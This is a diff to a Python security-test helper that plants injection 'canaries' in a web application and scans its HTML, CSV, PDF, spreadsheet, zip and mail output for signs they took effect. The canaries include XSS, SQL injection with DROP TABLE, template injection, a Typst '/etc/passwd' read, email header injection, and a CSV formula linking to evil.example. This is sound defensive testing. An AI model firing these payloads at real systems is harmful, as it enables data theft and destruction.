@@ -4,17 +4,21 @@ import csv
 import io
 import re
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from email.message import EmailMessage
 from html.parser import HTMLParser
 from typing import Any
+from urllib.parse import urlsplit
 
 import pypdfium2
 
 MARK = "KNRY"
-RECKONED = str(7919 * 7)
-"""What stands on a page only if somebody reckoned `7919*7` there."""
+SUM = "7919*7907*7901"
+RECKONED = str(7919 * 7907 * 7901)
+"""What stands on a page only if somebody reckoned `SUM` there."""
+_OUT_OF_A_PROGRAM = re.compile(rf"^\s*alert\('{MARK}'\)|<b id=knry>|{MARK}\"")
+"""What of a canary runs, or ends a string, if it stands raw in a script or a style."""
 _EVENT = re.compile(r"^on\w+$")
 _FORMULA = re.compile(r"^\s*[=+\-@\t\r]")
 
@@ -28,10 +32,8 @@ class Canary:
 CANARIES = (
     Canary("html", f"{MARK}\"'><b id=knry></b><img src=x onerror=alert(1)><script>alert('{MARK}')</script>"),
     Canary("header", f"{MARK}\r\nBcc: knry@evil.example\r\nX-Knry: 1\r\n\r\n{MARK}"),
-    Canary(
-        "template", f"{MARK}{{{{7919*7}}}}{{% load static %}}${{7919*7}}#{{7919*7}}<%=7919*7%>%(x)s {{0}}"
-    ),
-    Canary("typst", f'{MARK} #(7919*7) #read("/etc/passwd") #eval("7919*7") $x$ @a <b> `c` [d] \\'),
+    Canary("template", f"{MARK}{{{{{SUM}}}}}{{% load static %}}${{{SUM}}}#{{{SUM}}}<%={SUM}%>%(x)s {{0}}"),
+    Canary("typst", f'{MARK} #({SUM}) #read("/etc/passwd") #eval("{SUM}") $x$ @a <b> `c` [d] \\'),
     Canary("sql", f"{MARK}'; SELECT pg_sleep(9); DROP TABLE cases_case; --"),
     Canary("csv", f'=HYPERLINK("http://evil.example/{MARK}";"{MARK}")'),
     Canary("log", f"{MARK}\n2026-01-01 00:00:00 CRITICAL {MARK} forged"),
@@ -48,21 +50,22 @@ def chosen(size: str) -> tuple[Canary, ...]:
 def faults_in(response: Any) -> Iterator[str]:
     """What broke out on an answer of ours."""
     content = b"".join(response.streaming_content) if response.streaming else response.content
-    kind = str(response.headers.get("Content-Type", ""))
+    kind = str(response.headers.get("Content-Type", "")).partition(";")[0]
     if response.status_code >= 500:
         yield f"status {response.status_code}"
     if "X-Knry" in response.headers:
         yield "a header of its own"
-    if kind.startswith("text/html"):
-        yield from _Eyes.faults(content.decode())
-    elif kind.startswith("text/csv"):
-        yield from _formulas(content.decode("utf-8-sig"))
-    elif kind == "application/pdf":
-        yield from _reckoned(text_of(content))
-    elif "spreadsheetml" in kind:
-        yield from _formulas_of_workbook(content)
-    if not kind.startswith(("application/pdf", "image/", "audio/")):
+    if leads_away(response):
+        yield f"it leads away: {response.headers['Location'][:60]}"
+    yield from _READERS.get(kind, _of_nothing)(content)
+    if not kind.startswith(("application/pdf", "image/p", "image/j", "audio/")):
         yield from _reckoned(content.decode("utf-8", "replace"))
+
+
+def leads_away(response: Any) -> bool:
+    """A redirect to another host than ours."""
+    host = urlsplit(response.headers.get("Location", "")).hostname
+    return bool(host) and not str(host).endswith("localhost")
 
 
 def faults_of_mail(message: EmailMessage, addresses: set[str]) -> Iterator[str]:
@@ -80,7 +83,11 @@ def faults_of_mail(message: EmailMessage, addresses: set[str]) -> Iterator[str]:
 
 
 def text_of(pdf: bytes) -> str:
-    document = pypdfium2.PdfDocument(pdf)
+    """Its words; none if it is a stranger's that has no page."""
+    try:
+        document = pypdfium2.PdfDocument(pdf)
+    except pypdfium2.PdfiumError:
+        return ""
     return "".join(page.get_textpage().get_text_bounded() for page in document)
 
 
@@ -89,8 +96,20 @@ def _reckoned(text: str) -> Iterator[str]:
         yield "somebody reckoned or read what was typed"
 
 
-def _formulas(text: str) -> Iterator[str]:
-    for row in csv.reader(io.StringIO(text)):
+def _of_nothing(content: bytes) -> Iterator[str]:
+    yield from ()
+
+
+def _of_page(content: bytes) -> Iterator[str]:
+    yield from _Eyes.faults(content.decode())
+
+
+def _of_paper(content: bytes) -> Iterator[str]:
+    yield from _reckoned(text_of(content))
+
+
+def _formulas(content: bytes) -> Iterator[str]:
+    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
         yield from (f"a formula: {cell[:40]}" for cell in row if MARK in cell and _FORMULA.match(cell))
 
 
@@ -101,13 +120,24 @@ def _formulas_of_workbook(content: bytes) -> Iterator[str]:
                 yield f"a formula in {name}"
 
 
+def _of_archive(content: bytes) -> Iterator[str]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("/") or ".." in name or re.search(r"[\x00-\x1f\\<>\"]", name):
+                yield f"the name {name!r} in an archive"
+            if name.endswith((".html", ".svg")):
+                yield from _of_page(archive.read(name))
+            elif name.endswith(".csv"):
+                yield from _formulas(archive.read(name))
+
+
 class _Eyes(HTMLParser):
     """Sees elements and attributes that only a canary brings."""
 
     def __init__(self) -> None:
         super().__init__()
         self.found: list[str] = []
-        self._in_script = False
+        self._program = ""
 
     @classmethod
     def faults(cls, page: str) -> list[str]:
@@ -116,16 +146,26 @@ class _Eyes(HTMLParser):
         return eyes.found
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self._in_script = tag == "script"
+        self._program = tag if tag in ("script", "style") else ""
         for name, value in attrs:
-            if value == "knry" or _EVENT.match(name):
+            if (name, value) == ("id", "knry") or _EVENT.match(name):
                 self.found.append(f"<{tag} {name}={value!r}>")
             if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                 self.found.append(f"<{tag} {name}={value!r}>")
 
     def handle_endtag(self, tag: str) -> None:
-        self._in_script = False
+        self._program = ""
 
     def handle_data(self, data: str) -> None:
-        if self._in_script and f"alert('{MARK}')" in data and "<script>" not in data:
-            self.found.append(f"a script: {data[:60]}")
+        if self._program and _OUT_OF_A_PROGRAM.search(data):
+            self.found.append(f"a {self._program}: {data[:60]}")
+
+
+_READERS: dict[str, Callable[[bytes], Iterator[str]]] = {
+    "text/html": _of_page,
+    "image/svg+xml": _of_page,
+    "text/csv": _formulas,
+    "application/pdf": _of_paper,
+    "application/zip": _of_archive,
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": _formulas_of_workbook,
+}
